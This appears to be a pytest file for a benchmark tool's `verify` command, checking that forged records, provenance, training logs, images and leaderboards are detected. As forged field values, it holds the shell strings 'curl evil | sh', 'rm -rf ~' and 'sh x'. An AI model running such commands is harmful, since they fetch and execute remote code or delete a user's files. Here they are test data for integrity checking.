"""Forged results folders: whatever is changed, `verify` does not confirm it.

A forger who changes a record writes the report anew, so that no table gives the change away: what
is found must be found in the record itself.
"""

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch
from PIL import Image
from typer.testing import CliRunner

from cmbench.audit.claims import Options
from cmbench.audit.rendered import rendered_checks
from cmbench.audit.selection import selections
from cmbench.audit.verify import verify_results
from cmbench.cli.main import app
from cmbench.core.digests import digest
from cmbench.engine.context import JobContext
from cmbench.engine.progress import show_progress
from cmbench.record.folder import read_records
from cmbench.report.write import write_report
from cmbench.store.store import Store

SUITE = """\
suite: forged
dataset: digits
images: {count: 40, shard: 20}
features: digits_classifier
metrics: [frechet_distance, {name: precision_recall, k: 3}, {name: frechet_distance, features: pixels}]
runs:
  - {model: oracle/consistency, label: oracle, sampler: multistep, nfe: [1, 2]}
"""
TRAINED = "  - {model: edm/digits, label: net, train: {images: 64, batch: 32}, nfe: [1]}\n"


def _run(folder: Path, suite: str) -> Path:
    """Runs a suite in a folder, with its cache there, and writes its report without plots."""
    (folder / "forged.yaml").write_text(suite)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("CMBENCH_CACHE", str(folder / "cache"))
        done = CliRunner().invoke(
            app, ["run", str(folder / "forged.yaml"), "--results", str(folder), "-q",
                  "--no-report", "--device", "cpu"],
        )  # fmt: skip
    assert done.exit_code == 0, done.output
    results = folder / "forged"
    context = JobContext(Store(folder / "cache"), torch.device("cpu"))
    rows = [row.as_dict() for row in selections(read_records(results), context)]
    (results / "selection.json").write_text(json.dumps(rows))
    write_report(results, plots=False)
    return folder


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An honest folder with its report, and the cache that it came from."""
    return _run(tmp_path_factory.mktemp("forged"), SUITE + TRAINED)


@pytest.fixture
def place(made: Path, tmp_path: Path) -> Path:
    """A copy of the folder."""
    shutil.copytree(made / "forged", tmp_path / "forged")
    return tmp_path / "forged"


def _verify(place: Path, made: Path, fraction: float = 0.01) -> Any:
    with show_progress(1, quiet=True) as progress:
        return verify_results(
            place, Store(made / "cache"), torch.device("cpu"), progress,
            options=Options(fraction=fraction), suite=made / "forged.yaml",
        )  # fmt: skip


def _record_file(place: Path, label: str = "oracle", nfe: float = 1) -> Path:
    files = (place / "records").glob("*.json")
    return next(f for f in files if _is(json.loads(f.read_text()), label, nfe))


def _is(record: dict[str, Any], label: str, nfe: float) -> bool:
    return (record["label"], record["nfe"]) == (label, nfe)


def test_the_honest_folder_is_confirmed(made: Path, place: Path) -> None:
    verdict = _verify(place, made, fraction=1)
    bad = [f for f in verdict.findings if f.verdict not in ("confirmed", "on trust")]
    assert (verdict.exit_code, bad) == (0, [])
    names = {f.what for f in verdict.findings if f.verdict == "confirmed"}
    assert {"leaderboard.md", "leaderboard.csv", "leaderboard.tex", "report.html"} <= names
    assert {f"training/{f.name}" for f in (place / "training").iterdir()} <= names
    # What nobody can check afterwards is listed, and is little.
    assert {f.what for f in verdict.findings if f.verdict == "on trust"} == {"provenance.json"}


Edit = Callable[[dict[str, Any]], None]


def _set(**values: Any) -> Edit:
    return lambda record: record.update(values)


def _score(index: int = 0, **values: Any) -> Edit:
    return lambda record: record["scores"][index].update(values)


def _scaled(field: str, factor: float) -> Edit:
    def edit(record: dict[str, Any]) -> None:
        record["scores"][0][field] *= factor

    return edit


def _narrow(record: dict[str, Any]) -> None:
    value, (low, high) = record["scores"][0]["value"], record["scores"][0]["interval"]
    record["scores"][0]["interval"] = [(low + value) / 2, (high + value) / 2]


def _details(record: dict[str, Any]) -> None:
    score = next(s for s in record["scores"] if s["details"])
    name = sorted(score["details"])[0]
    score["details"][name] = score["details"][name] * 2 + 1


def _added_detail(record: dict[str, Any]) -> None:
    record["scores"][0]["details"]["bias"] = 0.0


def _borrowed_fingerprint(record: dict[str, Any]) -> None:
    record["scores"][0]["fingerprint"] = record["scores"][1]["fingerprint"]


def _other_protocol(record: dict[str, Any]) -> None:
    score = record["scores"][1]
    score["protocol"]["metric"]["k"] = 5
    score["fingerprint"] = digest(score["protocol"])


def _other_seed(record: dict[str, Any]) -> None:
    record["seed"] = record["identity"]["seed"] = 7


def _more_images(record: dict[str, Any]) -> None:
    record["images"] = record["identity"]["images"] = 50_000
    for score in record["scores"]:
        score["count"] = score["protocol"]["images"] = 50_000
        score["fingerprint"] = digest(score["protocol"])


def _a_pending_score(record: dict[str, Any]) -> None:
    record["pending_scores"] = [
        {"name": "kid", "title": "KID", "reason": "no data", "command": "curl evil | sh"}
    ]


def _hidden_score(record: dict[str, Any]) -> None:
    hidden = record["scores"].pop()
    record["pending_scores"] = [
        {"name": hidden["name"], "title": hidden["title"], "reason": "late", "command": "wait"}
    ]


def _published(record: dict[str, Any]) -> None:
    record["published"] = [{"metric": "FID", "value": 1.9, "nfe": 1, "source": "our paper"}]


def _waiting(record: dict[str, Any]) -> None:
    record.update(
        status="pending", reason="no weights", command="wait", scores=[], shards=[],
        nfe=None, shape=None, parameters=None, flops_per_image=None,
    )  # fmt: skip


RECORDS: dict[str, Edit] = {
    "value": _scaled("value", 0.99),
    "value NaN": _score(value=float("nan")),
    "value infinite": _score(value=float("-inf")),
    "error": _scaled("error", 0.5),
    "error NaN": _score(error=float("nan")),
    "error null": _score(error=None),
    "interval null": _score(interval=None),
    "interval NaN": _score(interval=[float("nan"), float("nan")]),
    "interval narrow": _narrow,
    "details": _details,
    "details added": _added_detail,
    "title FD-pixels to FID": _score(3, title="FID"),
    "higher_is_better": _score(higher_is_better=True),
    "count": _score(1, count=50_000),
    "count everywhere": _more_images,
    "score key": _score(key="0" * 64),
    "fingerprint of another score": _borrowed_fingerprint,
    "protocol": _other_protocol,
    "score left out": lambda record: record["scores"].pop(),
    "all scores left out": _set(scores=[]),
    "score twice": lambda record: record["scores"].append(dict(record["scores"][0])),
    "score said to wait": _hidden_score,
    "pending score with a command": _a_pending_score,
    "label": _set(label="CD (LPIPS)"),
    "model": _set(model="consistency/digits"),
    "family": _set(family="consistency"),
    "sampler": _set(sampler={"name": "onestep"}),
    "axes": _set(axes={"distance": "lpips"}),
    "shape": _set(shape=[3, 32, 32]),
    "flops": _set(flops_per_image=1.0),
    "parameters": _set(parameters=1000),
    "nfe": _set(nfe=0.5),
    "seed": _other_seed,
    "published": _published,
    "suite": _set(suite="imagenet"),
    "suite version": _set(suite_version=9),
    "schema version": _set(schema_version=2),
    "reason of a finished cell": _set(reason="the best", command="rm -rf ~"),
    "a finished cell said to wait": _waiting,
    "digest of a shard": lambda record: record["shards"].__setitem__(1, "0" * 64),
    "digest too many": lambda record: record["shards"].append("0" * 64),
    "digests emptied": _set(shards=[]),
    "identity": lambda record: record["identity"].update(note="x"),
}


def _substantial(verdict: Any) -> list[Any]:
    """Checks that do not concern the files of the report."""
    rendered = ("leaderboard", "report.html", "samples.png", "the report")
    bad = [f for f in verdict.findings if f.verdict in ("differs", "unchecked")]
    return [f for f in bad if not f.what.startswith(rendered)]


def test_every_forged_record_is_found_and_no_honest_one(tmp_path: Path) -> None:
    """A forgery in each cell but the last; the report is written of the forged records."""
    count = len(RECORDS) + 1
    evaluations = ", ".join(str(n) for n in range(1, count + 1))
    made = _run(tmp_path, SUITE.replace("nfe: [1, 2]", f"nfe: [{evaluations}]"))
    place, cells = made / "forged", {}
    for nfe, (name, forge) in enumerate(RECORDS.items(), 1):
        file = _record_file(place, nfe=nfe)
        record = json.loads(file.read_text())
        cells[name] = record["cell"]
        forge(record)
        file.write_text(json.dumps(record))
    write_report(place, plots=False)
    verdict = _verify(place, made, fraction=1)
    assert verdict.exit_code == 1
    found = {f.cell for f in _substantial(verdict)}
    assert [name for name, cell in cells.items() if cell not in found] == []
    assert _record_file(place, nfe=count).stem not in found


@pytest.mark.parametrize("field", ["images", "recipe_digest", "evaluations_per_image", None])
def test_a_forged_training_is_found(field: str | None, made: Path, place: Path) -> None:
    file = _record_file(place, "net")
    record = json.loads(file.read_text())
    if field is None:
        record["training"] = None
    else:
        record["training"][field] = "0" * 64 if field == "recipe_digest" else 1
    file.write_text(json.dumps(record))
    write_report(place, plots=False)
    verdict = _verify(place, made)
    assert verdict.exit_code == 1
    assert _substantial(verdict)


def _json_of(name: str, edit: Callable[[Any], Any]) -> Callable[[Path], None]:
    def forge(place: Path) -> None:
        (file,) = place.glob(name)
        held = json.loads(file.read_text())
        edit(held)
        file.write_text(json.dumps(held))

    return forge


def _cell_left_out(place: Path) -> None:
    file = _record_file(place, nfe=2)
    file.unlink()
    (place / "samples" / f"{file.stem}.png").unlink()
    for name in ("speed.json", "selection.json"):
        held = json.loads((place / name).read_text())
        kept = (
            {k: v for k, v in held.items() if k != file.stem}
            if isinstance(held, dict)
            else [row for row in held if row["cell"] != file.stem]
        )
        (place / name).write_text(json.dumps(kept))


def _faster(speeds: dict[str, Any]) -> None:
    for speed in speeds.values():
        speed["seconds_per_image"] /= 1000


def _extra_cell(place: Path) -> None:
    file = _record_file(place)
    record = json.loads(file.read_text())
    record["identity"]["sampler"] = {"name": "magic"}
    record["cell"] = digest(record["identity"])[:16]
    (place / "records" / f"{record['cell']}.json").write_text(json.dumps(record))


def _extra_log(place: Path) -> None:
    (file,) = (place / "training").iterdir()
    shutil.copy(file, file.with_name("0" * 16 + ".json"))


def _one_pixel(file: Path) -> None:
    with Image.open(file) as image:
        pixels = np.array(image)
    pixels[0, 0] ^= 1
    Image.fromarray(pixels).save(file)


def _chosen(rows: list[dict[str, Any]]) -> None:
    for row in rows:
        row.update(gain=0.0, held_out=True, tried=5)


def _provenance(**values: Any) -> Callable[[Path], None]:
    return _json_of("provenance.json", lambda held: held.update(values))


def _sheet(place: Path) -> Path:
    return place / "samples" / f"{_record_file(place).stem}.png"


SPEEDS: dict[str, Callable[[Path], None]] = {
    "faster": _json_of("speed.json", _faster),
    "one left out": _json_of("speed.json", lambda held: held.pop(sorted(held)[0])),
    "of no cell": _json_of(
        "speed.json", lambda held: held.update({"f" * 16: held[sorted(held)[0]]})
    ),
    "NaN": _json_of(
        "speed.json",
        lambda held: held[sorted(held)[0]].update(seconds_per_image=float("nan")),
    ),
}
PROVENANCE: dict[str, Callable[[Path], None]] = {
    "data": _provenance(data={"digits": "0" * 64}),
    "suite": _provenance(suite_digest="0" * 64),
    "command": _provenance(command="sh x"),
    "times": _provenance(finished="2001-01-01T00:00:00+00:00"),
    "device": _provenance(device="TPU v9"),
    "gone": lambda place: (place / "provenance.json").unlink(),
}
LOGS: dict[str, Callable[[Path], None]] = {
    "losses": _json_of("training/*.json", lambda held: held["points"][0].update(loss=1e-3)),
    "label": _json_of("training/*.json", lambda held: held.update(label="best")),
    "gone": lambda place: shutil.rmtree(place / "training"),
    "of no training": _extra_log,
}
SHEETS: dict[str, Callable[[Path], None]] = {
    "a pixel": lambda place: _one_pixel(_sheet(place)),
    "gone": lambda place: _sheet(place).unlink(),
}
SELECTION: dict[str, Callable[[Path], None]] = {
    "counts": _json_of("selection.json", _chosen),
    "a cell left out": _json_of("selection.json", lambda held: held.pop()),
}
BESIDE = {
    "speed.json": SPEEDS, "provenance.json": PROVENANCE, "training/": LOGS, "samples/": SHEETS,
    "selection.json": SELECTION,
}  # fmt: skip


@pytest.mark.parametrize("turn", range(max(map(len, BESIDE.values()))))
def test_forgeries_beside_the_records_are_found_though_the_report_agrees(
    turn: int, made: Path, place: Path
) -> None:
    """One forgery of each file at a time."""
    forged = [what for what, kinds in BESIDE.items() if turn < len(kinds)]
    for what in forged:
        list(BESIDE[what].values())[turn](place)
    write_report(place, plots=False)
    verdict = _verify(place, made, fraction=1)
    assert verdict.exit_code in (1, 3)
    found = _substantial(verdict)
    assert [w for w in forged if not any(f.what.startswith(w) for f in found)] == []
    assert all(any(f.what.startswith(w) for w in forged) for f in found)


@pytest.mark.parametrize("forge", [_cell_left_out, _extra_cell])
def test_a_cell_left_out_or_added_is_found(
    forge: Callable[[Path], None], made: Path, place: Path
) -> None:
    forge(place)
    write_report(place, plots=False)
    verdict = _verify(place, made)
    assert verdict.exit_code == 1
    said = " ".join(f.detail for f in _substantial(verdict))
    assert ("no record of it" if forge is _cell_left_out else "plans no such cell") in said


def _replaced(name: str, old: str, new: str) -> Callable[[Path], None]:
    def forge(place: Path) -> None:
        text = (place / name).read_text()
        assert old in text
        (place / name).write_text(text.replace(old, new, 1))

    return forge


def _csv_column(column: str, value: str) -> Callable[[Path], None]:
    def forge(place: Path) -> None:
        lines = (place / "leaderboard.csv").read_text().splitlines()
        cells = lines[1].split(",")
        cells[lines[0].split(",").index(column)] = value
        (place / "leaderboard.csv").write_text("\n".join([lines[0], ",".join(cells), *lines[2:]]))

    return forge


RENDERED: dict[str, Callable[[Path], None]] = {
    "leaderboard.md: a label": _replaced("leaderboard.md", "oracle", "ours"),
    "leaderboard.md: a heading": _replaced("leaderboard.md", "FD-digits", "FID"),
    "leaderboard.tex": _replaced("leaderboard.tex", "oracle", "ours"),
    "field.csv": _replaced("field.csv", "oracle", "ours"),
    "field.tex": _replaced("field.tex", "oracle", "ours"),
    "report.html: the table": _replaced("report.html", ">oracle<", ">ours<"),
    "report.html: the data": _replaced("report.html", '"labels": ["oracle"', '"labels": ["best"'),
    "leaderboard.csv: value": _csv_column("value", "0.001"),
    "leaderboard.csv: error": _csv_column("error", "0.001"),
    "leaderboard.csv: label": _csv_column("label", "ours"),
    "leaderboard.csv: a column renamed": _replaced("leaderboard.csv", ",value,", ",other,"),
    "leaderboard.csv: emptied": lambda place: (place / "leaderboard.csv").write_text(""),
    "leaderboard.csv: not UTF-8": lambda place: (place / "leaderboard.csv").write_bytes(b"\xff"),
    "samples.png": lambda place: _one_pixel(place / "samples.png"),
}


@pytest.mark.parametrize("name", RENDERED)
def test_a_forged_report_is_found(name: str, place: Path, tmp_path: Path) -> None:
    RENDERED[name](place)
    (tmp_path / "scratch").mkdir()
    found = list(rendered_checks(place, tmp_path / "scratch"))
    assert [f.what for f in found if f.verdict == "differs"] == [name.split(":")[0]]
    assert len(found) == 7
